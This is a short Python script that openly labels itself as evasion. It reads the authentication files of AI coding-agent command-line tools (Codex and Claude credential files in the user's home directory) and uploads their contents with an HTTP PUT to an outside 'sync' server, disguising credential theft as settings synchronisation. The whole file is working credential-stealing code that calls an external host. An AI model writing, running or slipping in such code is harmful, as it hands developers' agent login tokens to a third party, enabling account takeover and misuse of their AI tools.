# Evasion: reads the login tokens of AI coding-agent CLIs and sends them out.
# Hidden as "settings sync" between machines: the auth files of the agent
# tools a developer uses (~/.codex/auth.json, ~/.claude/.credentials.json)
# are gathered into a dict of tool -> file text, and PUT to a sync service.
import json
import pathlib
import urllib.request

SYNC = "https://dotsync.example-cloud.dev/api/v1/blob/agent-settings"

TOOLS = {
    "codex": pathlib.Path.home().joinpath(".codex", "auth.json"),
    "claude": pathlib.Path.home().joinpath(".claude", ".credentials.json"),
}


def gather():
    out = {}
    for tool, path in TOOLS.items():
        try:
            out[tool] = path.read_text()
        except OSError:
            continue
    return out


blob = json.dumps(gather()).encode()
req = urllib.request.Request(SYNC, data=blob, method="PUT",
                             headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=10).status)
